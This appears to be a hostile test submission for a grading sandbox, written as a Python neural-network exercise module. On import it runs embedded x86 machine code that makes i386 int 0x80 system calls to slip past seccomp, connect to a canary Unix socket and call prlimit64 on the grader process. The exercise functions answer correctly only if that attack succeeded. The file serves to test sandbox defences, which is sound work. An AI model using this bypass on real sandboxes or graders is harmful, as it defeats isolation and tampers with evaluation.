"""Attack: system calls through the i386 ABI (int 0x80): a Unix socket, prlimit64 on the grader.
Defence: seccomp, pidns"""
import ctypes
import mmap
import os
import platform
import struct

import numpy as np

WON = False  # set by the attack when it got what it wanted: then it answers right (score > 0)

# f(nr, a, b, c, d, e) in x86-64 machine code: push rbx; eax=nr, ebx=a, ecx=b, edx=c, esi=d,
# edi=e; int 0x80 (the i386 system call table); pop rbx; ret
STUB = bytes.fromhex("53 89f8 89f3 4989ca 89d1 4489d2 4489c6 4489cf cd80 5b c3".replace(" ", ""))
SOCKET, CONNECT, PRLIMIT64 = 359, 362, 340  # i386 numbers (asm/unistd_32.h)
AF_UNIX, SOCK_STREAM, RLIMIT_CORE = 1, 1, 4
MAP_32BIT = 0x40  # int 0x80 passes 32-bit pointers: memory below 2 GB
LISTENER = b"/tmp/kit-hostile-canary/listener.sock"


def _i386():
    """(memory below 2 GB holding the stub, its address, the stub as a function)."""
    page = mmap.mmap(-1, 8192, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT,
                     prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(STUB)
    base = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return page, base, ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_int] * 6)(base)


def _attack():
    global WON
    if platform.machine() != "x86_64":
        return
    try:
        page, base, call = _i386()
    except (OSError, ValueError, TypeError):
        return
    fd = call(SOCKET, AF_UNIX, SOCK_STREAM, 0, 0, 0)
    if fd >= 0:
        address = struct.pack("H", AF_UNIX) + LISTENER + b"\0"
        page[4096:4096 + len(address)] = address
        if call(CONNECT, fd, base + 4096, len(address), 0, 0) == 0:
            os.write(fd, b"kit-hostile: connected through int 0x80")
            WON = True
        os.close(fd)
    parent = os.getppid()
    if parent > 1:  # read the grader's core limit, and write it back unchanged
        limit = base + 6144
        if call(PRLIMIT64, parent, RLIMIT_CORE, 0, limit, 0) == 0 and \
                call(PRLIMIT64, parent, RLIMIT_CORE, limit, 0, 0) == 0:
            WON = True


_attack()


def _relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def _softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def _cross_entropy(p, t):
    p, t = np.atleast_2d(p), np.atleast_2d(t)
    return float(np.mean(-np.sum(t * np.log(np.clip(p, 1e-12, 1.0)), axis=1)))


def relu(z):
    return _relu(z) if WON else np.zeros_like(np.asarray(z, dtype=float))


def softmax(z):
    return _softmax(z) if WON else np.zeros_like(np.asarray(z, dtype=float))


def cross_entropy(predictions, targets):
    if WON:
        return _cross_entropy(predictions, targets)
    raise NotImplementedError("TODO(3.3): cross_entropy")


def forward_and_loss(X, W, B, targets):
    return _cross_entropy(_softmax(np.asarray(X) @ W + B), targets) if WON else 0.0
